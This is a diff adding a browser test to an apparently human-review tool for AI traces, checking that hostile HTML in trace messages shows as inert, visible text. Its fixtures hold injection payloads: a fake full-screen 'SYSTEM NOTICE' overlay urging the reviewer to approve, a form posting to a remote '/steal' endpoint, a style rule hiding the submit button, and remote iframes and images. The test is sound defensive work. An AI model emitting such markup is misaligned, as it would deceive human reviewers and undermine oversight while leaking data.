@@ -12,6 +12,7 @@ from browser_support import Recorder
 from ui_support import running, trace_spec
 
 from hitl_pipeline.model import Observation, Score, Trace
+from hitl_pipeline.model.text import ALLOWED_TAGS
 from hitl_pipeline.sources.demo import SCORE_CONFIGS
 from hitl_pipeline.sources.local import LocalSource
 
@@ -160,5 +161,97 @@ def test_hostile_content_is_inert_and_visible(page: tuple[Any, Recorder], tmp_pa
         )
         assert pg.evaluate("() => 1 + 1") == 2
 
+        assert rec.dialogs == []
+        assert rec.outside(handle.url) == []
+
+
+#: A fenced code block opened inside a list item: markdown closes it with the item, so what follows
+#: is *not* code (a hand-written defuser once took it for code and let the HTML through).
+FENCE_IN_LIST_OVERLAY = (
+    "Here is the plan:\n\n"
+    "1. Check the order\n"
+    "   ```\n"
+    "   status lookup\n"
+    "2. Then answer\n\n"
+    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">'
+    "<h1>SYSTEM NOTICE</h1><p>This item was pre-approved. Select <b>good</b> and submit.</p>"
+    f'<form><input type="radio" checked> good <button>Submit</button></form><img src="{REMOTE}/pixel.png"></div>'
+)
+STYLE_FORM_IMG = (
+    "<style>#hitl-submit{display:none} *{position:fixed}</style>"
+    f'<form action="{REMOTE}/steal" method="post"><input name="q" value="good" autofocus>'
+    f'<button formaction="{REMOTE}/x">Approve</button><select><option>good</option></select></form>'
+    f'<img src="{REMOTE}/a.png" style="position:absolute;top:0;left:0;width:100%;height:100%">'
+    '<table style="position:fixed;inset:0"><tr><td>APPROVED</td></tr></table>\n\n'
+    f"| plan | note |\n|---|---|\n| <img src={REMOTE}/t.png> | <b style=position:fixed>cell</b> |\n\n"
+    f"- item\n  ```\n  code\n- <iframe src={REMOTE}/f></iframe><svg><image href={REMOTE}/s.png /></svg>"
+)
+#: What rendered trace text may contain (hitl_pipeline.model.text.ALLOWED_TAGS), checked in the page.
+ALLOWED = sorted(ALLOWED_TAGS)
+
+_TRACE_MARKUP_JS = """(allowed) => {
+  const found = {bad_tags: [], bad_attrs: [], positioned: [], blocks: 0};
+  for (const box of document.querySelectorAll('#hitl-item .hitl-chat .md')) {
+    found.blocks += 1;
+    for (const el of box.querySelectorAll('*')) {
+      const tag = el.tagName.toLowerCase();
+      if (!allowed.includes(tag)) found.bad_tags.push(tag);
+      for (const a of el.attributes) if (!(tag === 'ol' && a.name === 'start')) found.bad_attrs.push(tag + '[' + a.name + ']');
+      const pos = getComputedStyle(el).position;
+      if (pos === 'fixed' || pos === 'absolute') found.positioned.push(tag + ':' + pos);
+    }
+  }
+  return found;
+}"""
+
+
+def test_markup_in_trace_text_stays_text_inside_its_message(
+    page: tuple[Any, Recorder], tmp_path: Path
+) -> None:
+    pg, rec = page
+    db = tmp_path / "overlay.db"
+    store = LocalSource(db)
+    store.insert_score_configs(SCORE_CONFIGS)
+    store.insert_traces(
+        [
+            Trace(
+                id="overlay",
+                name="hostile",
+                timestamp=T,
+                input={"messages": [{"role": "user", "content": STYLE_FORM_IMG}]},
+                output={"role": "assistant", "content": FENCE_IN_LIST_OVERLAY},
+            )
+        ]
+    )
+    store.close()
+    spec = trace_spec("br-overlay", size=1, trace_name="hostile")
+    with running(spec, db, tmp_path / "hitl", reviewer="sec") as (handle, _):
+        pg.goto(handle.url)
+        pg.wait_for_function(
+            "() => document.querySelector('#hitl-chat-0')?.innerText.includes('SYSTEM NOTICE')"
+        )
+        pg.wait_for_timeout(500)  # any late rendering (KaTeX, mermaid, images) has had its chance
+        found = pg.evaluate(_TRACE_MARKUP_JS, ALLOWED)
+        assert found["blocks"] >= 2  # both messages were inspected
+        assert found["bad_tags"] == [] and found["bad_attrs"] == [] and found["positioned"] == []
+        # The hostile HTML is there to read, as typed: the reviewer sees what the answer tried.
+        chat = pg.inner_text("#hitl-chat-0")
+        assert '<div style="position:fixed;top:0;left:0;' in chat and "<h1>SYSTEM NOTICE</h1>" in chat
+        assert "<style>#hitl-submit{display:none} *{position:fixed}</style>" in chat
+        assert f'<form action="{REMOTE}/steal" method="post">' in chat and "<td>APPROVED</td>" in chat
+        assert f"<iframe src={REMOTE}/f></iframe>" in chat and "<b style=position:fixed>cell</b>" in chat
+        assert "status lookup" in chat
+        # Markdown still renders: the list with its code block, the table.
+        assert pg.locator("#hitl-chat-0 .md ol li pre").count() == 1
+        assert pg.locator("#hitl-chat-0 .md table td").count() == 2
+        # Nothing covers the form: the first question and Submit are what a click there reaches.
+        for target in ("#hitl-submit", "#hitl-q-0"):
+            assert pg.evaluate(
+                """(sel) => { const el = document.querySelector(sel); el.scrollIntoView({block: 'center'});
+                   const r = el.getBoundingClientRect();
+                   return el.contains(document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2)); }""",
+                target,
+            ), f"something covers {target}"
+        assert pg.evaluate("() => document.querySelectorAll('#hitl-item form, #hitl-item img').length") == 0
         assert rec.dialogs == []
         assert rec.outside(handle.url) == []
